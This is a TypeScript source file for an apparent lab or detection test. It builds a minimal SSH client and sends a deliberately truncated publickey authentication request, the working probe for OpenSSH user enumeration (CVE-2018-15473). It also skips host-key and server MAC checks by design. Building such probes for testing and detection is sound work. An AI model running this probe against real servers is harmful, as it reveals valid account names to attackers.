// The OpenSSH user-enumeration probe of seed 000 (CVE-2018-15473) as a standalone client, which
// SshdLab.probe runs inside the client's network namespace:
//
//   node ssh-probe.ts <host> <port> <user> <local address>
//
// It does the SSH transport with node:crypto only (curve25519-sha256, aes128-ctr, hmac-sha2-256, no
// compression), asks for ssh-userauth, then sends a `publickey` USERAUTH_REQUEST that ends right
// after the method name. sshd fails to read the rest and ends the connection with
// `fatal: userauth_pubkey: parse publickey packet: incomplete message [preauth]` (OpenSSH >= 8.9; the
// older spellings are in ../shared/fixtures/README.md). The host key is not verified: a test client.
// Prints `closed` and exits 0 once the server hung up; any other end is an error (exit 1).
import { connect, type Socket } from 'node:net';
import { createCipheriv, createDecipheriv, createHash, createHmac, createPublicKey, diffieHellman, generateKeyPairSync, randomBytes, type Cipheriv, type Decipheriv, type KeyObject } from 'node:crypto';

const MSG = { SERVICE_REQUEST: 5, SERVICE_ACCEPT: 6, KEXINIT: 20, NEWKEYS: 21, KEX_ECDH_INIT: 30, KEX_ECDH_REPLY: 31, USERAUTH_REQUEST: 50 } as const;
const CLIENT_VERSION = 'SSH-2.0-VigilEnumerationProbe_1.0';
/** DER prefix of an X25519 SubjectPublicKeyInfo: the raw 32-byte key follows. */
const X25519_SPKI = Buffer.from('302a300506032b656e032100', 'hex');

const u32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};
/** SSH `string`: a length and the bytes. */
const str = (s: string | Buffer): Buffer => {
  const b = typeof s === 'string' ? Buffer.from(s) : s;
  return Buffer.concat([u32(b.length), b]);
};
/** SSH `mpint` of an unsigned big-endian number. */
function mpint(raw: Buffer): Buffer {
  let i = 0;
  while (i < raw.length - 1 && raw[i] === 0) i++;
  const digits = raw.subarray(i);
  return str((digits[0] as number) & 0x80 ? Buffer.concat([Buffer.from([0]), digits]) : digits);
}
const sha256 = (...parts: Buffer[]): Buffer => parts.reduce((h, p) => h.update(p), createHash('sha256')).digest();
const message = (type: number, ...fields: Buffer[]): Buffer => Buffer.concat([Buffer.from([type]), ...fields]);

/** Keys of one direction once NEWKEYS is exchanged. */
interface OutKeys {
  cipher: Cipheriv;
  mac: Buffer;
}

/** SSH binary packets over a socket: plain until {@link useKeys}, then aes128-ctr + hmac-sha2-256. */
class Transport {
  private buffer = Buffer.alloc(0);
  private wake: (() => void) | undefined;
  private closed = false;
  private sent = 0;
  private out: OutKeys | undefined;
  private decipher: Decipheriv | undefined;
  /** The first decrypted block of a packet whose rest has not arrived yet. */
  private head: Buffer | undefined;
  private readonly socket: Socket;
  readonly ended: Promise<void>;

  constructor(socket: Socket) {
    this.socket = socket;
    socket.on('data', (chunk: Buffer) => {
      this.buffer = Buffer.concat([this.buffer, chunk]);
      this.notify();
    });
    this.ended = new Promise((resolve, reject) => {
      socket.on('error', reject);
      socket.on('close', () => {
        this.closed = true;
        this.notify();
        resolve();
      });
    });
  }

  private notify(): void {
    const wake = this.wake;
    this.wake = undefined;
    wake?.();
  }

  private async more(what: string): Promise<void> {
    if (this.closed) throw new Error(`the server closed the connection while the probe waited for ${what}`);
    await new Promise<void>((resolve) => (this.wake = resolve));
  }

  /** The server's identification line (lines before it are a banner). */
  async versionLine(): Promise<string> {
    for (;;) {
      const end = this.buffer.indexOf('\r\n');
      if (end !== -1) {
        const line = this.buffer.subarray(0, end).toString();
        this.buffer = this.buffer.subarray(end + 2);
        if (line.startsWith('SSH-')) return line;
      } else await this.more('the version line');
    }
  }

  send(payload: Buffer): void {
    const block = this.out === undefined ? 8 : 16;
    let padding = block - ((5 + payload.length) % block);
    if (padding < 4) padding += block;
    const packet = Buffer.concat([u32(1 + payload.length + padding), Buffer.from([padding]), payload, randomBytes(padding)]);
    const wire = this.out === undefined ? packet : Buffer.concat([this.out.cipher.update(packet), createHmac('sha256', this.out.mac).update(u32(this.sent)).update(packet).digest()]);
    this.sent += 1;
    this.socket.write(wire);
  }

  async receive(what: string): Promise<Buffer> {
    for (;;) {
      const packet = this.decipher === undefined ? this.plainPacket() : this.encryptedPacket();
      if (packet !== undefined) return packet.subarray(5, packet.length - (packet[4] as number));
      await this.more(what);
    }
  }

  private plainPacket(): Buffer | undefined {
    if (this.buffer.length < 4) return undefined;
    const total = 4 + this.buffer.readUInt32BE(0);
    if (this.buffer.length < total) return undefined;
    const packet = this.buffer.subarray(0, total);
    this.buffer = this.buffer.subarray(total);
    return packet;
  }

  private encryptedPacket(): Buffer | undefined {
    const decipher = this.decipher as Decipheriv;
    if (this.head === undefined) {
      if (this.buffer.length < 16) return undefined;
      this.head = decipher.update(this.buffer.subarray(0, 16));
      this.buffer = this.buffer.subarray(16);
    }
    const rest = 4 + this.head.readUInt32BE(0) - 16;
    const macLength = 32;
    if (this.buffer.length < rest + macLength) return undefined;
    const packet = Buffer.concat([this.head, decipher.update(this.buffer.subarray(0, rest))]);
    this.buffer = this.buffer.subarray(rest + macLength); // the server's MAC is not checked: a test client
    this.head = undefined;
    return packet;
  }

  useKeys(out: OutKeys, decipher: Decipheriv): void {
    this.out = out;
    this.decipher = decipher;
  }
}

function kexInit(): Buffer {
  const list = (...names: string[]) => str(names.join(','));
  return message(MSG.KEXINIT, randomBytes(16), list('curve25519-sha256', 'curve25519-sha256@libssh.org'), list('ssh-ed25519', 'rsa-sha2-256', 'ecdsa-sha2-nistp256'),
    list('aes128-ctr'), list('aes128-ctr'), list('hmac-sha2-256'), list('hmac-sha2-256'), list('none'), list('none'), list(), list(), Buffer.from([0]), u32(0));
}

/** The `string` fields of a packet, from `offset`. */
function strings(packet: Buffer, offset: number, count: number): Buffer[] {
  const out: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const length = packet.readUInt32BE(offset);
    out.push(packet.subarray(offset + 4, offset + 4 + length));
    offset += 4 + length;
  }
  return out;
}

async function expect(t: Transport, type: number, what: string): Promise<Buffer> {
  const packet = await t.receive(what);
  if (packet[0] !== type) throw new Error(`expected ${what} (message ${type}), got message ${packet[0]}`);
  return packet;
}

/** curve25519-sha256 key exchange (RFC 8731), then NEWKEYS both ways and the session keys (RFC 4253 7.2). */
async function keyExchange(t: Transport, serverVersion: string): Promise<void> {
  const clientInit = kexInit();
  t.send(clientInit);
  const serverInit = await expect(t, MSG.KEXINIT, 'KEXINIT');
  const ours: { publicKey: KeyObject; privateKey: KeyObject } = generateKeyPairSync('x25519');
  const clientPublic = ours.publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  t.send(message(MSG.KEX_ECDH_INIT, str(clientPublic)));
  const reply = await expect(t, MSG.KEX_ECDH_REPLY, 'KEX_ECDH_REPLY');
  const [hostKey, serverPublic] = strings(reply, 1, 2) as [Buffer, Buffer];
  const theirs = createPublicKey({ key: Buffer.concat([X25519_SPKI, serverPublic]), format: 'der', type: 'spki' });
  const secret = mpint(diffieHellman({ privateKey: ours.privateKey, publicKey: theirs }));
  const hash = sha256(str(CLIENT_VERSION), str(serverVersion), str(clientInit), str(serverInit), str(hostKey), str(clientPublic), str(serverPublic), secret);
  const derive = (letter: string) => sha256(secret, hash, Buffer.from(letter), hash); // the session id is the first hash
  t.send(message(MSG.NEWKEYS));
  await expect(t, MSG.NEWKEYS, 'NEWKEYS');
  t.useKeys(
    { cipher: createCipheriv('aes-128-ctr', derive('C').subarray(0, 16), derive('A').subarray(0, 16)), mac: derive('E') },
    createDecipheriv('aes-128-ctr', derive('D').subarray(0, 16), derive('B').subarray(0, 16)),
  );
}

async function probe(host: string, port: number, user: string, localAddress: string): Promise<void> {
  const socket = connect({ host, port, localAddress });
  const t = new Transport(socket);
  socket.write(`${CLIENT_VERSION}\r\n`);
  await keyExchange(t, await t.versionLine());
  t.send(message(MSG.SERVICE_REQUEST, str('ssh-userauth')));
  await expect(t, MSG.SERVICE_ACCEPT, 'SERVICE_ACCEPT');
  // user, service, method, and nothing of what `publickey` needs after it (has_signature, algorithm, key)
  t.send(message(MSG.USERAUTH_REQUEST, str(user), str('ssh-connection'), str('publickey')));
  const answer = await t.receive('the end of the connection').catch(() => undefined);
  if (answer !== undefined) throw new Error(`sshd answered the malformed request (message ${answer[0]}) instead of closing the connection`);
  await t.ended;
}

const [host, port, user, localAddress] = process.argv.slice(2);
if (host === undefined || port === undefined || user === undefined || localAddress === undefined) {
  console.error('usage: node ssh-probe.ts <host> <port> <user> <local address>');
  process.exit(2);
}
probe(host, Number(port), user, localAddress).then(
  () => console.log('closed'),
  (error: unknown) => {
    console.error(error instanceof Error ? error.message : String(error));
    process.exit(1);
  },
);
